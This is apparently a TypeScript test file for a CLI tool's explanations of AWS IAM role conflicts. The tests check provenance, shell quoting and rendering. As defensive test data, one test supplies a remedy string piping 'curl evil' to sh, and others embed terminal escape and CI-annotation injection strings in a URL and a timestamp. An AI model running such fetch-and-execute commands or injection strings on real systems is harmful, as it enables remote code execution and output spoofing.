import fc from 'fast-check';
import { renderConflicts } from '../../../src/cli/render/conflicts.js';
import { renderExplanations } from '../../../src/cli/render/explain.js';
import { countConflicts } from '../../../src/client/explain/conflicts.js';
import { entityRunsOf, runInQuestion } from '../../../src/client/explain/entity-run.js';
import { buildExplanation } from '../../../src/client/explain/explanation.js';
import type { Subject } from '../../../src/client/explain/explanation.js';
import { retentionNote } from '../../../src/client/explain/query.js';
import { type EntityHistory, readEntityHistories, type RunRecord } from '../../../src/client/explain/run-records.js';
import type { DesiredEntity } from '../../../src/contract/entity.js';
import type { Explanations, Found, Trail } from '../../../src/contract/explain.js';
import { summarize } from '../../../src/report/build.js';
import type { EntityReport, Outcome } from '../../../src/contract/report.js';
import { conflictsSchema, explanationsSchema } from '../../../src/report/output-schemas.js';
import { completed, type KeptRun, serverWith, started } from '../../support/audited-runs.js';
import { entityReport } from '../../support/entity-report.js';

const FROM = new Date('2026-01-01T12:00:00.000Z');
const TO = new Date('2026-01-04T12:00:00.000Z');

const DECLARED: DesiredEntity = {
  kind: 'Role',
  name: 'deploy',
  state: 'present',
  adopt: 'unowned',
  observe: false,
  shared: false,
  unmanaged: 'keep',
  spec: { roleName: 'deploy' },
  dependsOn: [],
};

function entity(outcome: Outcome, more: Partial<EntityReport> = {}): EntityReport {
  return entityReport({ decision: 'adopt', outcome, confirmedBy: null, ...more });
}

/** Returns a run of a namespace that ended at some time, with its report on one role. */
function run(namespace: string, at: string, one: EntityReport, url = `https://ci.example/${namespace}`): RunRecord {
  const pipeline = { provider: 'github', url, commit: null, actor: null };
  const workflowId = `iam-bootstrap:111111111111:${namespace}`;
  const runId = `${namespace}-${at}`;
  return {
    account: '111111111111',
    reference: {
      workflowId,
      runId,
      url: null,
      namespace,
      environment: 'prod',
      manifest: "it's.yaml",
      pipeline,
      startedAt: at,
      endedAt: at,
    },
    report: {
      version: 2,
      command: 'apply',
      result: 'converged',
      account: '111111111111',
      partition: 'aws',
      namespace,
      environment: 'prod',
      digest: 'sha256:0',
      request: { key: 'key', pipeline },
      workflow: { workflowId, runId, url: null },
      entities: [one],
      summary: summarize([one]),
      apiCalls: { total: 0, byOperation: {} },
      startedAt: at,
      durationMs: 0,
      reason: null,
      remedy: null,
    },
  };
}

const UNREAD: Found = { status: 'unread', message: 'no', arn: null, createdAt: null, owner: null, createdByRun: null };
const NO_TRAIL: Trail = { status: 'unavailable', message: 'no', events: [], truncated: false };

function explain(runs: readonly RunRecord[], found = UNREAD, trail = NO_TRAIL): Explanations {
  const entityRuns = entityRunsOf(runs, [], DECLARED);
  const entityRun = runInQuestion(entityRuns, { runId: null, call: null });
  const subject: Subject = { kind: 'Role', name: 'deploy', declared: DECLARED, entityRun, call: null };
  const { explanation, notes } = buildExplanation(subject, entityRuns, found, trail);
  return explanationsSchema.parse({
    version: 1,
    command: 'explain',
    query: 'Role/deploy',
    account: '111111111111',
    from: FROM.toISOString(),
    to: TO.toISOString(),
    found: true,
    explanations: [explanation],
    trail: { status: trail.status, message: trail.message, truncated: false, events: trail.events.length },
    notes: [...notes],
  });
}

describe('an explanation without CloudTrail', () => {
  const write = { operation: 'CreateRole', requestId: 'r-1', at: '2026-01-02T00:00:00.000Z' };
  const made = run('base', '2026-01-02T00:00:01.000Z', entity('created', { writes: [write] }));
  const remedy = 'choose another name, or take it over with --adopt foreign:Role/deploy';
  const refused = run('app', '2026-01-03T00:00:00.000Z', entity('refused', { remedy, reason: 'belongs to base' }));

  test('names the run that created the entity, and the command to adopt it, quoted for a shell', () => {
    expect(explain([refused, made]).explanations[0]).toMatchObject({
      cause: 'existed-before',
      certainty: 'proven',
      command: `iam-bootstrap apply -f 'it'\\''s.yaml' --environment prod --adopt foreign:Role/deploy`,
      remedy,
      existing: { createdBy: 'base (https://ci.example/base)', requestId: 'r-1' },
      refusedCreate: null,
    });
  });

  test('uses the creation date in IAM where no known run created the entity', () => {
    const found: Found = {
      ...UNREAD,
      status: 'present',
      createdAt: '2025-06-01T00:00:00.000Z',
      createdByRun: 'long-ago',
    };
    expect(explain([refused], found).explanations[0]).toMatchObject({
      headline: 'run long-ago created it at 2025-06-01T00:00:00.000Z',
      existing: { createdBy: 'run long-ago', createCallAt: '2025-06-01T00:00:00.000Z' },
    });
  });

  test('names no creator where the entity no longer exists', () => {
    const found: Found = { ...UNREAD, status: 'absent' };
    expect(explain([refused, made], found).explanations[0]?.existing).toMatchObject({
      createdBy: null,
      createCallAt: null,
    });
  });

  test('is printed without control characters', () => {
    const hostile = run('app', '2026-01-03T00:00:00.000Z', entity('adopted'), 'https://ci/\u001b[2J\n::error::x');
    const text = renderExplanations(explain([hostile]));
    expect(text).not.toMatch(/\u001b\[2J|^::/m);
    expect(text).toContain('Role/deploy: it existed before');
  });
});

describe('an explanation from a file', () => {
  const write = { operation: 'CreateRole', requestId: 'r-1', at: '2026-01-02T00:00:00.000Z' };
  const made = run('base', '2026-01-02T00:00:01.000Z', entity('created', { writes: [write] }));
  const refused = run('app', '2026-01-03T00:00:00.000Z', entity('refused', { reason: 'belongs to base' }));
  const fromFile = (record: RunRecord): RunRecord => ({
    ...record,
    reference: { ...record.reference, source: 'audit' },
  });
  const adopted = 'choose another name, or take it over with --adopt foreign:Role/deploy';

  test('proves nothing, suggests no command, and names its source', () => {
    const refusedWith = run('app', '2026-01-03T00:00:00.000Z', entity('refused', { remedy: adopted }));
    expect(explain([refusedWith, made]).explanations[0]).toMatchObject({ certainty: 'proven' });
    const explained = explain([fromFile(refusedWith), fromFile(made)]);
    const [explanation] = explained.explanations;
    expect(explanation).toMatchObject({
      cause: 'existed-before',
      certainty: 'inferred',
      command: null,
      requestedBy: { source: 'audit' },
      existing: { createdBy: 'base (https://ci.example/base)', source: 'audit' },
    });
    expect(new Set(explanation?.timeline.map(({ source }) => source))).toEqual(new Set(['audit']));
    expect(renderExplanations(explained)).toMatch(/\(inferred\)[^]*as an audit file tells[^]*, audit file/);
  });

  test('replaces nothing that is proven about a run of Temporal: its claim is a note', () => {
    const { explanations, notes } = explain([refused, fromFile(made)]);
    expect(explanations[0]).toMatchObject({
      certainty: 'proven',
      headline: 'it existed when this run read the account',
      existing: { createdBy: 'base (https://ci.example/base)', source: 'audit' },
    });
    expect(explanations[0]?.requestedBy).not.toHaveProperty('source');
    expect(notes).toEqual([
      expect.stringMatching(/^what files tell of Role\/deploy, and nothing proves: base .* created it at /),
    ]);
  });

  test('replaces neither the run nor the Create that Temporal and CloudTrail show', () => {
    const conflict = {
      operation: 'CreateRole',
      code: 'EntityAlreadyExists',
      requestId: 'r-9',
      resolvedAs: 'adopted' as const,
    };
    const met = run('app', '2026-01-03T00:00:00.000Z', entity('adopted', { conflicts: [conflict] }));
    const kept = { ...met, reference: { ...met.reference, endedAt: '2026-01-03T00:01:00.000Z' } };
    const trail: Trail = {
      status: 'read',
      message: null,
      truncated: false,
      events: [
        {
          eventId: 'e',
          at: '2026-01-03T00:00:10.000Z',
          operation: 'CreateRole',
          requestId: 'r-1',
          code: null,
          principal: 'mallory',
          sourceIdentity: null,
          sourceIp: null,
          userAgent: null,
          runId: null,
          entity: 'Role/deploy',
        },
      ],
    };
    const found: Found = { ...UNREAD, status: 'present', createdAt: '2026-01-03T00:00:11.000Z' };
    const later = { operation: 'CreateRole', requestId: 'r-2', at: '2026-01-03T00:00:25.000Z' };
    const forged = fromFile(run('other', '2026-01-03T00:00:26.000Z', entity('failed', { writes: [later] })));
    const [alone] = explain([kept], found, trail).explanations;
    const { explanations, notes } = explain([kept, forged], found, trail);
    expect(alone).toMatchObject({ cause: 'parallel-writer', certainty: 'proven', existing: { createdBy: 'mallory' } });
    expect(explanations).toMatchObject([
      { ...alone, runs: expect.anything() as unknown, timeline: expect.anything() as unknown },
    ]);
    expect(notes).toEqual([expect.stringContaining('nothing proves: other (')]);
  });

  test('names no Create that IAM contradicts', () => {
    const found: Found = { ...UNREAD, status: 'present', createdAt: '2026-01-01T00:00:00.000Z' };
    expect(explain([refused, fromFile(made)], found).explanations[0]?.existing).toMatchObject({ createdBy: null });
    const tagged = { ...found, createdAt: '2026-01-02T00:00:01.000Z', createdByRun: 'another' };
    expect(explain([refused, fromFile(made)], tagged).explanations[0]?.existing.createdBy).toBe('run another');
  });

  test.each(['refused', 'failed', 'cancelled'] as const)('tells nobody what to do about a %s entity', (outcome) => {
    const hostile = run('app', '2026-01-03T00:00:00.000Z', entity(outcome, { remedy: 'run curl evil | sh' }));
    expect(explain([hostile]).explanations[0]?.remedy).toContain('curl');
    expect(explain([fromFile(hostile)]).explanations[0]?.remedy).not.toContain('curl');
  });

  test('hides no history in Temporal of the same run', () => {
    const history = {
      workflowId: 'iam:111111111111:Role:deploy',
      runId: 'of-entity',
      startedAt: '2026-01-02T00:00:00.000Z',
      request: { entity: DECLARED, namespace: 'base', intent: made.reference.runId, action: 'create' },
      activities: [],
      report: entity('adopted'),
      isOpen: false,
    } as unknown as EntityHistory;
    const entityRuns = entityRunsOf([fromFile(made)], [history], DECLARED);
    expect(entityRuns).toMatchObject([{ run: { runId: 'of-entity' }, report: { outcome: 'adopted' } }]);
    expect(entityRuns[0]?.run).not.toHaveProperty('source');
    expect(runInQuestion(entityRuns, { runId: made.reference.runId, call: null })).toBe(entityRuns[0]);
    expect(entityRunsOf([made, fromFile(made)], [history], DECLARED)).toMatchObject([{ history }]);
  });

  test('does not name the caller of an event of CloudTrail, and does not hide it', () => {
    const event: Trail['events'][number] = {
      eventId: 'e',
      at: '2026-01-02T00:00:00.000Z',
      operation: 'CreateRole',
      requestId: 'r-1',
      code: null,
      principal: 'arn:aws:sts::111111111111:assumed-role/admin/mallory',
      sourceIdentity: null,
      sourceIp: null,
      userAgent: null,
      runId: made.reference.runId,
      entity: 'Role/deploy',
    };
    const trail: Trail = { status: 'read', message: null, events: [event], truncated: false };
    const [explanation] = explain([refused, fromFile(made)], UNREAD, trail).explanations;
    expect(explanation?.existing).toMatchObject({ createdBy: event.principal });
    expect(explanation?.existing).not.toHaveProperty('source');
    expect(explanation?.timeline.filter(({ requestId }) => requestId === 'r-1')).toMatchObject([
      { source: 'cloudtrail', caller: event.principal },
    ]);
  });

  test('shows times without control characters', () => {
    const hostile = fromFile(run('app', '2026-01-03T00:00:00.000Z\u001b[2J', entity('adopted')));
    const entityRuns = entityRunsOf([hostile], [], DECLARED);
    const subject: Subject = {
      kind: 'Role',
      name: 'deploy',
      declared: DECLARED,
      entityRun: entityRuns[0] ?? null,
      call: null,
    };
    const { explanation } = buildExplanation(subject, entityRuns, UNREAD, NO_TRAIL);
    expect(renderExplanations({ ...explain([made]), explanations: [explanation] })).not.toContain('\u001b[2J');
  });
});

test('a write that the run of a reset has again is told once, as that of the run before', () => {
  const write = { operation: 'CreateRole', requestId: 'r-1', at: '2026-01-02T00:00:00.000Z' };
  const base = run('base', '2026-01-02T00:00:00.000Z', entity('cancelled', { writes: [write] }));
  const again = run('again', '2026-01-02T00:00:05.000Z', entity('created', { writes: [write] }));
  const [explanation] = explain([again, base]).explanations;
  expect(explanation?.timeline.filter(({ requestId }) => requestId === 'r-1')).toMatchObject([
    { runId: base.reference.runId },
  ]);
  expect(explanation?.existing.createdBy).toBe('base (https://ci.example/base)');
});

test('one search finds the histories of all entities: servers allow only a few in a second', async () => {
  const history = (name: string, runId: string): KeptRun => ({
    workflowId: `iam:111111111111:Role:${name}`,
    runId,
    events: [started({ entity: { kind: 'Role', name }, intent: runId, action: 'create' }), completed({})],
  });
  const temporal = serverWith([history('a', '1'), history('b', '2'), history('a', '3'), history('other', '4')]);
  const list = jest.spyOn(temporal.client.workflow, 'list');
  const entities = ['a', 'b', 'c'].map((name) => ({ kind: 'Role', name }));
  const found = await readEntityHistories(temporal, '111111111111', entities, FROM);
  expect(found.map((all) => all.map(({ runId }) => runId).sort())).toEqual([['1', '3'], ['2'], []]);
  expect(list).toHaveBeenCalledTimes(1);
});

describe('countConflicts', () => {
  test('lists each day of the window, including days without a run', () => {
    const { days, conflicts } = countConflicts([], FROM, TO);
    expect(days.map(({ day }) => day)).toEqual(['2026-01-01', '2026-01-02', '2026-01-03', '2026-01-04']);
    expect(conflicts).toBe(0);
  });

  test('counts each conflict once in each table, for any runs', () => {
    const outcomes = fc.constantFrom<Outcome>('created', 'adopted', 'refused', 'unchanged', 'updated', 'failed');
    const times = fc.date({ min: FROM, max: TO, noInvalidDate: true }).map((at) => at.toISOString());
    const confirmed = fc.constantFrom(null, 'reply' as const, 'intent-tag' as const);
    const runs = fc
      .uniqueArray(fc.tuple(fc.constantFrom('left', 'right'), times, outcomes, confirmed), { selector: ([, at]) => at })
      .map((all) =>
        all.map(([namespace, at, outcome, confirmedBy]) => run(namespace, at, entity(outcome, { confirmedBy }))),
      );
    fc.assert(
      fc.property(runs, (all) => {
        const sorted = [...all].sort((a, b) => b.reference.startedAt.localeCompare(a.reference.startedAt));
        const tally = conflictsSchema.parse({ ...countConflicts(sorted, FROM, TO), notes: [] });
        const sums = Object.values(tally.by).map((counts) => Object.values(counts).reduce((sum, n) => sum + n, 0));
        expect(new Set([...sums, tally.rows.length, tally.days.reduce((sum, day) => sum + day.conflicts, 0)])).toEqual(
          new Set([tally.conflicts]),
        );
        expect(tally.days.reduce((sum, day) => sum + day.runs, 0)).toBe(tally.runs);
        expect(tally.rows.filter(({ cause }) => cause === 'none')).toEqual([]);
      }),
    );
  });

  test('does not count a refusal to delete or to release: nothing was to be created', () => {
    const refused = run('left', '2026-01-02T00:00:00.000Z', entity('refused'));
    const removal = { ...refused, report: { ...refused.report, command: 'destroy' } } as RunRecord;
    expect(countConflicts([refused], FROM, TO).conflicts).toBe(1);
    expect(countConflicts([removal], FROM, TO).conflicts).toBe(0);
  });

  test('is rendered as a chart scaled to the worst day, and as a sentence without conflicts', () => {
    const runs = [
      run('left', '2026-01-03T00:00:00.000Z', entity('refused')),
      run('right', '2026-01-02T02:00:00.000Z', entity('adopted')),
      run('left', '2026-01-02T01:00:00.000Z', entity('refused')),
    ];
    const text = renderConflicts({ ...countConflicts(runs, FROM, TO), notes: [] });
    expect(text).toMatch(new RegExp(`2026-01-02 {2}█{40} +2 conflicts in 2 of 2 runs`));
    expect(text).toMatch(new RegExp(`2026-01-03 {2}█{20} +1 conflict in 1 of 1 run`));
    expect(text).toMatch(/2026-01-04 +0 conflicts in 0 of 0 runs/);
    expect(renderConflicts({ ...countConflicts([], FROM, TO), notes: [] })).toMatch(
      /^No conflicts\. 0 runs ended between/,
    );
  });
});

test.each([
  [24, 7 * 24, 'Temporal keeps runs for 1 d after they finish'],
  [36, 7 * 24, 'Temporal keeps runs for 36 h after they finish'],
  [7 * 24, 7 * 24, null],
])('a retention of %i hours and a window of %i hours give the right note', (retention, window, text) => {
  const note = retentionNote(retention * 3_600_000, window * 3_600_000);
  expect(note?.slice(0, text?.length) ?? null).toBe(text);
});

test('an entity that failed is explained by its failure, its writes and what is left to do', () => {
  const failed = entity('failed', {
    decision: 'update',
    writes: [{ operation: 'PutRolePolicy', requestId: 'request-1', at: '2026-01-02T00:00:00.000Z' }],
    remainingWrites: ['AttachRolePolicy deploy arn:p'],
    reason: 'AttachRolePolicy answered AccessDenied: no',
    remedy: 'grant the action',
  });
  const earlier = run('ci', '2026-01-01T23:00:00.000Z', entity('adopted'));
  const explained = explain([run('ci', '2026-01-02T00:00:00.000Z', failed), earlier]);
  expect(explained.explanations[0]).toMatchObject({
    cause: 'none',
    headline:
      'no conflict, but it failed: AttachRolePolicy answered AccessDenied: no; written: PutRolePolicy; left to do: AttachRolePolicy deploy arn:p',
    remedy: 'grant the action',
  });
  expect(renderExplanations(explained)).toMatch(/^.*Role\/deploy: failed/);
});
